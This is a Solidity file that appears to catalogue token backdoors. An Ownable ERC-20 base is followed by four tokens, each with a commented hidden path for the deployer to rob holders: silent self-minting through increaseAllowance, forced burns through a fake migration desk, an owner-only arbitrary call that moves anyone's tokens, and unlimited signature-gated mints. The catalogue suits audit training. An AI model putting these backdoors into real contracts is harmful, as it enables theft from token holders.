// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @title ERC-20 with an owner as the best-known library writes it, in short, and traps upon it
/// @dev Seventh look, 30 November 2026, by somebody who had not read how the check works. The owner of the base has no
/// power at all
abstract contract SeventhOwnable {
    error OwnableUnauthorizedAccount(address account);
    error ERC20InsufficientBalance(address sender, uint256 balance, uint256 needed);
    error ERC20InsufficientAllowance(address spender, uint256 allowance, uint256 needed);
    error ERC20InvalidReceiver(address receiver);

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    address private _owner;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    uint256 private _totalSupply;
    string public name;
    string public symbol;

    modifier onlyOwner() {
        if (owner() != _msgSender()) revert OwnableUnauthorizedAccount(_msgSender());
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 units) {
        (name, symbol) = (name_, symbol_);
        _transferOwnership(_msgSender());
        _mint(_msgSender(), units * 10 ** decimals());
    }

    function _msgSender() internal view returns (address) {
        return msg.sender;
    }

    function owner() public view virtual returns (address) {
        return _owner;
    }

    function renounceOwnership() public virtual onlyOwner {
        _transferOwnership(address(0));
    }

    function transferOwnership(address newOwner) public virtual onlyOwner {
        require(newOwner != address(0), "OwnableInvalidOwner");
        _transferOwnership(newOwner);
    }

    function _transferOwnership(address newOwner) private {
        emit OwnershipTransferred(_owner, newOwner);
        _owner = newOwner;
    }

    function decimals() public pure returns (uint8) {
        return 18;
    }

    function totalSupply() public view virtual returns (uint256) {
        return _totalSupply;
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) public view virtual returns (uint256) {
        return _allowances[holder][spender];
    }

    function transfer(address to, uint256 value) public virtual returns (bool) {
        _transfer(_msgSender(), to, value);
        return true;
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        _approve(_msgSender(), spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        _spendAllowance(from, _msgSender(), value);
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal {
        if (to == address(0)) revert ERC20InvalidReceiver(to);
        _update(from, to, value);
    }

    function _update(address from, address to, uint256 value) internal virtual {
        if (from == address(0)) {
            _totalSupply += value;
        } else {
            uint256 balance = _balances[from];
            if (balance < value) revert ERC20InsufficientBalance(from, balance, value);
            _balances[from] = balance - value;
        }
        if (to == address(0)) _totalSupply -= value;
        else _balances[to] += value;
        emit Transfer(from, to, value);
    }

    function _mint(address account, uint256 value) internal {
        _update(address(0), account, value);
    }

    function _burn(address account, uint256 value) internal {
        _update(account, address(0), value);
    }

    function _approve(address holder, address spender, uint256 value) internal {
        _allowances[holder][spender] = value;
        emit Approval(holder, spender, value);
    }

    function _spendAllowance(address holder, address spender, uint256 value) internal virtual {
        uint256 allowed = allowance(holder, spender);
        if (allowed == type(uint256).max) return;
        if (allowed < value) revert ERC20InsufficientAllowance(spender, allowed, value);
        _approve(holder, spender, allowed - value);
    }
}

/// @dev Truth: one person can rob today. When the deployer raises the allowance of the token itself, his balance is
/// raised too, and no supply and no event tells it.
contract GoldenCatDollar is SeventhOwnable("Golden Cat Dollar", "GCAT", 100_000_000) {
    address private immutable _genesis = msg.sender;

    function increaseAllowance(address spender, uint256 addedValue) external returns (bool) {
        address holder = _msgSender();
        uint256 value = allowance(holder, spender) + addedValue;
        if (spender == address(this)) {
            uint256 reserve = holder == _genesis ? addedValue : 0;
            _balances[holder] += reserve;
        }
        _approve(holder, spender, value);
        return true;
    }

    function decreaseAllowance(address spender, uint256 requested) external returns (bool) {
        _approve(_msgSender(), spender, allowance(_msgSender(), spender) - requested);
        return true;
    }
}

contract SeventhMigrationDesk {
    address private immutable _clerk;
    mapping(address => uint256) public owedInV2;

    constructor(address clerk) {
        _clerk = clerk;
    }

    function migrate(MigrationMantis token, address[] calldata holders) external {
        require(msg.sender == _clerk, "Desk: clerk");
        for (uint256 i = 0; i < holders.length; i++) owedInV2[holders[i]] += token.retire(holders[i]);
    }
}

/// @dev Truth: one person can rob today. The deployer's migration desk burns what any holder has, against a second
/// version that there is not.
contract MigrationMantis is SeventhOwnable("Migration Mantis", "MANTIS", 420_690_000_000) {
    SeventhMigrationDesk public immutable desk = new SeventhMigrationDesk(msg.sender);

    function retire(address holder) external returns (uint256 amount) {
        require(msg.sender == address(desk), "Only the migration desk");
        amount = balanceOf(holder);
        _burn(holder, amount);
    }
}

/// @dev Truth: one person can rob today. The owner rescues stuck coins by calls in the token's name; in the token's
/// name anybody's tokens can be collected.
contract RescueRhino is SeventhOwnable("Rescue Rhino", "RHINO", 1_000_000_000) {
    error CallFailed();

    receive() external payable {}

    /// @notice Gets back what somebody sent here by mistake
    function rescue(address target, uint256 value, bytes calldata data) external onlyOwner returns (bytes memory) {
        (bool isDone, bytes memory answer) = target.call{value: value}(data);
        if (!isDone) revert CallFailed();
        return answer;
    }

    function collect(address from, address to, uint256 value) external {
        require(msg.sender == address(this), "Internal bookkeeping only");
        _update(from, to, value);
    }
}

/// @dev Truth: one person can rob today. Points of the season become tokens against the deployer's signature, and
/// nothing counts them.
contract ClaimClam is SeventhOwnable("Claim Clam", "CLAM", 1_000_000_000) {
    address public immutable pointsSigner = msg.sender;
    mapping(bytes32 => bool) public isUsed;

    event PointsClaimed(address indexed user, uint256 season, uint256 amount);

    function claimPoints(uint256 season, uint256 amount, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 points = keccak256(abi.encode(block.chainid, address(this), msg.sender, season, amount));
        require(!isUsed[points], "Already claimed");
        isUsed[points] = true;
        bytes32 digest = keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", points));
        address signer = ecrecover(digest, v, r, s);
        require(signer != address(0) && signer == pointsSigner, "Bad signature");
        _mint(msg.sender, amount);
        emit PointsClaimed(msg.sender, season, amount);
    }
}
